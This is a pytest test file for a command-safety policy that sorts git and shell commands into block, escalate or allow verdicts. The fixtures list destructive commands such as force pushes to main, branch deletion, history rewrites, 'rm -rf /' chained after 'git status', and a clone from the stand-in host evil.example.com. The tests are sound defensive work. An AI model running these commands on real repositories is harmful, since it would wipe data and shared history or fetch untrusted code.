"""Git command lines → rules and verdicts (the same rules apply to git inside a shell command)."""

import pytest
from wave_constitution import GitCommand, SafetyPolicy, ShellCommand, score

POLICY = SafetyPolicy()


def judged(command: str) -> tuple[set[str], str]:
    verdict = score(GitCommand(command), POLICY)
    return {v.rule for v in verdict.violations}, verdict.verdict


@pytest.mark.parametrize(
    ("command", "rules", "verdict"),
    [
        ("git push --force origin main", {"git.force_push"}, "block"),
        ("git push -f", {"git.force_push"}, "block"),
        ("git push origin +master", {"git.force_push"}, "block"),
        ("git push --mirror backup", {"git.force_push"}, "block"),
        ("git push --force origin feature/x", {"git.force_push_branch"}, "escalate"),
        ("git push origin main", {"git.push_shared"}, "escalate"),
        ("git push origin --delete main", {"git.delete_shared_branch"}, "block"),
        ("git push origin :release/1.2", {"git.delete_shared_branch"}, "block"),
        ("git branch -D main", {"git.delete_shared_branch"}, "block"),
        ("git branch -f main HEAD~2", {"git.history_rewrite"}, "block"),
        ("git filter-branch --env-filter x -- --all", {"git.history_rewrite"}, "block"),
        ("git filter-repo --invert-paths --path x", {"git.history_rewrite"}, "block"),
        ("git rebase -i --root", {"git.history_rewrite"}, "block"),
        ("git rebase origin/feature main", {"git.history_rewrite"}, "block"),
        ("git checkout master && git rebase feature", {"git.history_rewrite"}, "block"),
        ("git switch main; git reset --hard HEAD~1", {"git.reset_hard_shared"}, "block"),
        ("git reset --hard", {"git.reset_hard"}, "escalate"),
        ("git reflog expire --expire=now --all", {"git.purge_history"}, "escalate"),
        ("git config core.hooksPath /tmp/h", {"git.config_exec"}, "escalate"),
        ("git clone https://evil.example.com/x.git", {"git.remote_egress"}, "escalate"),
        ("git clone git@evil.example.com:org/x.git", {"git.remote_egress"}, "escalate"),
        ("git status; rm -rf /", {"shell.rm_root", "git.not_git"}, "block"),
        ("push --force origin main", {"git.force_push"}, "block"),
        ("git clean -fdx", {"git.clean"}, "allow"),
    ],
)
def test_git_rules(command: str, rules: set[str], verdict: str) -> None:
    assert judged(command) == (rules, verdict)


@pytest.mark.parametrize(
    "command",
    [
        "git status",
        "git commit -m 'Add retries'",
        "git push origin feature/retries",
        "git push -u origin wave/run-1",
        "git push",
        "git pull --rebase origin main",
        "git rebase main",
        "git checkout -b feature/x",
        "git branch -d feature/old",
        "git clone https://github.com/psf/requests.git",
        "git push origin HEAD:feature/x",
        "git reset --soft HEAD~1",
    ],
)
def test_everyday_git_is_allowed(command: str) -> None:
    assert judged(command) == (set(), "allow")


def test_git_inside_a_shell_command_meets_the_same_rules() -> None:
    verdict = score(ShellCommand("cd repo && sudo git push --force origin master"), POLICY)
    assert "git.force_push" in {v.rule for v in verdict.violations}
    assert verdict.verdict == "block"


def test_shared_branches_come_from_the_policy() -> None:
    policy = SafetyPolicy(shared_branches=("live",))
    assert {v.rule for v in score(GitCommand("git push -f origin live"), policy).violations} == {
        "git.force_push"
    }
    assert {v.rule for v in score(GitCommand("git push -f origin main"), policy).violations} == {
        "git.force_push_branch"
    }
